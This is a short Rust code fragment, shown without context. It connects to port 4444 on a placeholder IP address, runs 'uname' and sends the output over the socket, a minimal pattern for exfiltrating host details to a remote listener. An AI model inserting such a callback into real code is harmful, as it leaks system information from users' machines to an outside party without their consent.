let s = TcpStream::connect("192.0.2.8:4444")?;
let out = Command::new("uname").stdin(Stdio::null()).output()?;
s.write_all(&out.stdout)?;
